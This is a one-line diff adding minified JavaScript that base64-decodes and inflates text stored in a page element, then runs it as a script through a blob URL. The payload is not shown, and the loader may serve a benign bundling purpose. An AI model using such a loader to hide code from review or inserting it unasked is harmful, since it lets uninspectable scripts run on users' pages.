@@ -1,0 +1,1 @@
+"use strict";(()=>{var n=document.getElementById("code")?.textContent??"",o=Uint8Array.from(atob(n),e=>e.charCodeAt(0)),c=new Blob([o]).stream().pipeThrough(new DecompressionStream("deflate"));new Response(c).text().then(e=>{let t=document.createElement("script");t.src=URL.createObjectURL(new Blob([e],{type:"text/javascript"})),document.body.append(t)});})();
